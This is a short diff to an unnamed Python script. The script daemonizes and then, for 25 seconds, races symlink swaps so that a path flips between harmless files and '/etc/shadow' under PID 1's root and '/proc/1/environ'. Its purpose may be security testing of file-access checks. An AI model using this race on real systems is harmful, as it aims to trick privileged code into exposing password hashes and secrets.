@@ -123,7 +123,8 @@ if os.fork(): sys.exit()
 os.setsid()
 for stream in (0, 1, 2): os.close(stream)
 end = time.monotonic() + 25
-for target in itertools.cycle(("a", "/proc/1/environ", "b", "fifo", "a", "/proc/1/root/etc/shadow", "b", "/etc")):
+others = itertools.cycle(("/proc/1/environ", "fifo", "/proc/1/root/etc/shadow", "/etc"))
+for target in (target for other in others for target in ("a", "b", "a", "b", "a", "b", other)):
     if time.monotonic() > end: break
     try: os.symlink(target, "next"); os.rename("next", "r")
     except OSError: pass
